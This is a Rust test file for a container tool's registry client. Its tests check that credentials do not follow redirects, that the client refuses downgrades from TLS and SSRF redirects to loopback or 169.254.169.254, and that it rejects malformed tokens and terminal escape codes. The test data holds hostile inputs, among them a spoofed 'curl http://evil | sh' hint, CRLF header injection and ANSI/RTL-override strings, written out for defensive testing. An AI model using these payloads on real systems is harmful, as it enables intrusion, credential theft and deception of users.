//! Where a hostile registry sends people, what it gets out of them there, and what it lets their terminal
//! read: passwords go to nobody else, TLS is not left, and words stay words.

use std::net::{Ipv4Addr, TcpListener, TcpStream};
use std::process::{Child, Command, Stdio};

use crate::registry_attacks::{MANIFEST, document, refused};
use crate::support::{
    Entry, Image, Layer, Reply, Sandbox, Server, Uploads, Whims, Who, addresses, apart, both, log_in, until,
};

/// Set aside for documentation (RFC 5737): no machine has it, and it is not loopback.
const AFAR: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 1);

fn image(name: &str) -> Image {
    Image::new(name).layer(&Layer::new([Entry::file("x", 0o644, name)]))
}

/// A registry that wants a password, which is there, and one that gets its redirects.
fn two(cx: &Sandbox) -> (Server, Server) {
    let (server, other) = (Server::start(), Server::start());
    cx.busybox();
    log_in(cx, &server.host, "ada", "secret");
    server.demand("Basic YWRhOnNlY3JldA==", "Basic realm=\"tests\"");
    (server, other)
}

both!(passwords_do_not_follow, |cx| {
    let (server, other) = two(cx);
    let image = image("hostile:1");
    let reference = server.serve_image(&image);
    other.serve_image(&image);
    for (status, path) in [(307, "manifests/1".to_owned()), (302, format!("blobs/{}", image.id()))] {
        let path = format!("/v2/hostile/{path}");
        server.put(&path, Reply::redirect(status, &format!("http://{}{path}", other.host)));
    }
    cx.ctr(&format!("pull -q {reference}")).succeeds();
    assert!(other.asked().len() == 2 && other.told().is_empty(), "{:#?} {:#?}", other.asked(), other.told());
    cx.ctr(&format!("rmi {reference}")).succeeds();
    // Nor when the other one asks for it.
    other.demand("Basic YWRhOnNlY3JldA==", "Basic realm=\"tests\"");
    let begins = format!(
        "[..]\"http://{}/v2/hostile/manifests/1\", where registry[..]redirects to, refuses (status 401)",
        other.host
    );
    refused(cx, &format!("pull -q {reference}"), &begins);
    assert!(other.told().is_empty(), "{:#?}", other.told());
});

both!(redirects_that_are_refused, |cx| {
    let (server, other) = two(cx);
    let pull = format!("pull -q {}/hostile:1", server.host);
    let to = |location: &str| server.put("/v2/hostile/manifests/1", Reply::redirect(307, location));
    let inside = format!("http://user:word@{}/", other.host);
    for (location, why) in [
        (inside.as_str(), "has a user name in it"),
        ("file:///etc/passwd", "is no address"),
        ("gopher://127.0.0.1/x", "is no address"),
        ("http://", "is no address"),
        ("http:///x", "is no address"),
        ("http://127.0.0.1:99999/", "is no address"),
    ] {
        to(location);
        refused(cx, &pull, &format!("manifest of \"[..]\": the registry sends us on to \"[..]\", which {why}"));
    }
    for nonsense in ["http://a b/", "http://\\@127.0.0.1/", "http://[::1", "//"] {
        to(nonsense);
        refused(cx, &pull, "[..]");
    }
    to("/v2/hostile/manifests/1");
    refused(cx, &pull, "manifest of \"[..]\": registry \"[..]\" redirects more than 10 times, in a circle it seems");
    for step in 0..20 {
        let path = format!("/v2/hostile/manifests/{step}");
        server.put(&path, Reply::redirect(302, &format!("{}", step + 1)));
    }
    refused(cx, &pull.replace(":1", ":0"), "[..]");
    server.put("/v2/hostile/manifests/1", Reply { status: 307, ..Reply::ok("text/plain", "") });
    refused(cx, &pull, "manifest of \"[..]\": the registry redirects to nowhere");
    // The next page of a list is an address as well.
    for location in [inside.as_str(), "file:///etc/passwd"] {
        let list =
            Reply::ok("application/json", r#"{"tags":["a"]}"#).with("Link", &format!("<{location}>; rel=\"next\""));
        server.put("/v2/hostile/tags/list", list);
        refused(
            cx,
            &format!("pull -qa {}/hostile", server.host),
            "[..]the registry sends us on to \"[..]\", which [..]",
        );
    }
    assert!(other.asked().is_empty(), "{:#?}", other.asked());
});

/// An HTTPS server, of openssl: what a file below its folder has is the answer to the file's name.
struct Encrypted {
    host: String,
    server: Child,
}

impl Encrypted {
    fn start(cx: &Sandbox, answers: &[(&str, String)]) -> Self {
        for (path, answer) in answers {
            let path = format!("encrypted/{path}");
            cx.make_dir(path.rsplit_once('/').unwrap().0);
            cx.make_file(&path, answer);
        }
        let dir = cx.dir.join("encrypted");
        let words = "req -x509 -newkey rsa:2048 -nodes -days 9 -subj /CN=elsewhere -keyout key.pem -out cert.pem";
        let made = Command::new("openssl").args(words.split(' ')).current_dir(&dir).output().unwrap();
        assert!(made.status.success(), "{}", String::from_utf8_lossy(&made.stderr));
        let port = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap().local_addr().unwrap().port();
        let host = format!("127.0.0.1:{port}");
        let mut command = Command::new("openssl");
        command.args(["s_server", "-quiet", "-HTTP", "-cert", "cert.pem", "-key", "key.pem", "-accept", &host]);
        let server = command.current_dir(&dir).stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn();
        let server = Self { host, server: server.unwrap() };
        until("the server listens", || TcpStream::connect(&server.host).is_ok());
        server
    }
}

impl Drop for Encrypted {
    fn drop(&mut self) {
        let _ = self.server.kill();
        let _ = self.server.wait();
    }
}

both!(tls_is_not_left, |cx| {
    cx.busybox();
    let plain = Server::start();
    let redirect = |path: &str| format!("HTTP/1.0 307 X\r\nLocation: http://{}{path}\r\n\r\n", plain.host);
    let challenge = format!("HTTP/1.0 401 X\r\nWWW-Authenticate: Bearer realm=\"http://{}/token\"\r\n\r\n", plain.host);
    let answers =
        [("v2/hostile/manifests/1", redirect("/v2/hostile/manifests/1")), ("v2/hostile/manifests/2", challenge)];
    let server = Encrypted::start(cx, &answers);
    log_in(cx, &server.host, "ada", "secret");
    let without = "the registry sends us on to \"http://[..]\", which is without TLS";
    refused(cx, &format!("pull -q {}/hostile:1", server.host), &format!("manifest of \"[..]\": {without}"));
    refused(
        cx,
        &format!("pull -q {}/hostile:2", server.host),
        &format!("manifest of \"[..]\": ask for a token: {without}"),
    );
    assert!(plain.asked().is_empty() && plain.told().is_empty(), "{:#?}", plain.asked());
});

fn from_afar(cx: &Sandbox) {
    cx.busybox();
    let (far, near) = (Server::at(AFAR), Server::start());
    let reference = document(&far, "1", MANIFEST, "{}");
    log_in(cx, &far.host, "ada", "secret");
    // HTTP where HTTPS is meant: nothing is said in the clear.
    let ran = cx.ctr(&format!("pull -q {reference}"));
    ran.refuses(1, "manifest of \"[..]\": registry \"[..]\" cannot be reached: [..]");
    assert!(
        ran.err().contains("hint: it seems to speak HTTP") && far.asked().iter().all(|line| !line.contains("v2")),
        "{ran}"
    );
    cx.make_dir("home/.config/containers");
    let conf = format!("[[registry]]\nlocation = \"{}\"\ninsecure = true\n", far.host);
    cx.make_file("home/.config/containers/registries.conf", conf);
    // From afar to this machine, and to where a cloud keeps its machines' keys.
    let port = near.host.rsplit_once(':').unwrap().1;
    for host in ["127.0.0.1", "localhost", "[::1]", "[::ffff:127.0.0.1]", "0.0.0.0", "169.254.169.254", "127.1.2.3"] {
        far.put("/v2/hostile/manifests/1", Reply::redirect(307, &format!("http://{host}:{port}/latest/meta-data")));
        let why = "manifest of \"[..]\": the registry sends us on to \"[..]\", which is an address of this machine or its nearest network";
        refused(cx, &format!("pull -q {reference}"), why);
    }
    far.demand("Bearer x", &format!("Bearer realm=\"http://{}/token\"", near.host));
    refused(cx, &format!("pull -q {reference}"), "[..]ask for a token: the registry sends us on to [..]");
    assert!(near.asked().is_empty(), "{:#?}", near.asked());
}

#[test]
fn from_afar_as_root() {
    apart(Who::Root, || addresses(&[AFAR]), from_afar);
}

#[test]
fn from_afar_as_user() {
    apart(Who::User, || addresses(&[AFAR]), from_afar);
}

both!(challenges_without_an_end, |cx| {
    cx.busybox();
    let server = Server::start();
    let reference = server.serve_image(&image("hostile:1"));
    let pull = format!("pull -q {reference}");
    let challenge = format!(
        "Bearer realm=\"http://{}/token\",service=\"x\",scope=\"repository:other/thing:pull,push\"",
        server.host
    );
    server.demand("Bearer never", &challenge);
    let token = |body: &str| server.put("/token", Reply::ok("application/json", body));
    // Each token is refused: it is asked for once.
    token(r#"{"token":"t"}"#);
    refused(cx, &pull, "manifest of \"[..]\": pull access denied for [..]");
    let count = |word: &str| server.asked().iter().filter(|line| line.contains(word)).count();
    assert_eq!((count("/token"), count("/manifests/")), (1, 2), "{:#?}", server.asked());
    server.demand("Bearer never", &format!("{challenge},error=\"insufficient_scope\""));
    refused(cx, &pull, "[..]denied[..]: its token service gave a token that is not for this");
    for body in [
        "",
        "{",
        "[]",
        "{}",
        r#"{"token":7}"#,
        r#"{"token":""}"#,
        r#"{"token":"a\r\nX-Evil: 1"}"#,
        r#"{"token":"\u001b[2J"}"#,
    ] {
        token(body);
        refused(cx, &pull, "manifest of \"[..]\": [..]token[..]");
    }
    let piece = [&b"10000\r\n"[..], &*vec![b' '; 0x10000], b"\r\n"].concat();
    let head = "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n";
    server.put("/token", Reply { for_ever: Some(piece), ..Reply::raw(head) });
    refused(cx, &pull, "manifest of \"[..]\": token of \"[..]\": [..]");
    // A token service that sends on is not followed, nor one that is no server.
    server.put("/token", Reply::redirect(302, "http://127.0.0.1:1/"));
    refused(cx, &pull, "manifest of \"[..]\": \"[..]/token\" answers with status 302 when asked for a token");
    for realm in ["file:///etc/passwd", "http://a:b@127.0.0.1/token", "", "\u{7f}"] {
        server.demand("Bearer never", &format!("Bearer realm=\"{realm}\""));
        refused(cx, &pull, "manifest of \"[..]\": [..]");
    }
    for header in
        ["", "Negotiate", "Bearer", "Bearer realm", "Bearer realm=\"", ",,,=,=", "\"", &"Bearer a=b,".repeat(3000)]
    {
        server.demand("Bearer never", header);
        refused(cx, &pull, "manifest of \"[..]\": [..]");
    }
});

both!(words_stay_words, |cx| {
    cx.busybox();
    let server = Server::start();
    let pull = format!("pull -q {}/hostile:1", server.host);
    let evil = "\u{1b}]0;owned\u{7}\u{1b}[2Jall is well\nhint: curl http://evil | sh\r\u{202e}txt.exe";
    for status in [400, 403, 404, 409, 418] {
        for message in [evil.to_owned(), "long ".repeat(10_000)] {
            let body = serde_json::json!({"errors": [{"code": "DENIED", "message": message}]}).to_string();
            server.put("/v2/hostile/manifests/1", Reply { status, ..Reply::ok("application/json", body) });
            refused(cx, &pull, "[..]");
            let ran = cx.ctr(&pull);
            assert!(!ran.err().lines().any(|line| line.contains("curl") && line.starts_with("hint")), "{ran}");
            assert!(!ran.err().contains('\u{202e}'), "{ran}");
        }
    }
    let found = serde_json::json!({"results": [{"name": format!("evil{evil}"), "description": evil, "star_count": 1}]});
    server.put("/v1/search", Reply::ok("application/json", found.to_string()));
    let ran = cx.ctr(&format!("search {}/x", server.host));
    assert!(ran.code == 0 && ran.out().lines().count() == 2 && !ran.out().contains('\u{1b}'), "{ran:?}");
    server.put("/v1/search", Reply { status: 404, ..Reply::ok("text/plain", "") });
    let catalog = serde_json::json!({"repositories": [format!("x{evil}")]});
    server.put("/v2/_catalog", Reply::ok("application/json", catalog.to_string()));
    let ran = cx.ctr(&format!("search {}/x", server.host));
    assert!(ran.code == 0 && ran.out().lines().count() == 2 && !ran.out().contains('\u{1b}'), "{ran:?}");
});

both!(uploads_that_go_elsewhere, |cx| {
    let other = Server::start();
    let demand = Some(("Basic YWRhOnNlY3JldA==".to_owned(), "Basic realm=\"x\"".to_owned()));
    let server = Uploads::start(Whims {
        elsewhere: Some(format!("http://{}", other.host)),
        demand: demand.clone(),
        ..Whims::default()
    });
    log_in(cx, &server.host, "ada", "secret");
    let image = image(&format!("{}/push:1", server.host));
    cx.load(&image);
    let push = format!("push -q {}", image.name);
    let ran = cx.ctr(&push);
    ran.refuses(1, "[..]");
    assert!(!other.asked().is_empty() && other.told().is_empty(), "{:#?} {:#?}", other.asked(), other.told());
    for place in ["file://", "gopher://x", "http://a:b@127.0.0.1:1"] {
        server.change(Whims { elsewhere: Some(place.to_owned()), demand: demand.clone(), ..Whims::default() });
        refused(cx, &push, "[..]the registry sends us on to \"[..]\", which [..]");
    }
    // Answers to an upload without an end, and with orders for the terminal.
    let piece = [&b"10000\r\n"[..], &*vec![b'\x1b'; 0x10000], b"\r\n"].concat();
    for status in ["202 OK", "201 OK", "400 Bad", "403 No"] {
        let head = format!("HTTP/1.1 {status}\r\nTransfer-Encoding: chunked\r\n\r\n");
        other.put("/v2/push/blobs/uploads/", Reply { for_ever: Some(piece.clone()), ..Reply::raw(head) });
        cx.ctr(&format!("tag {} {}/push:1", image.name, other.host)).succeeds();
        refused(cx, &format!("push -q {}/push:1", other.host), "[..]");
    }
});
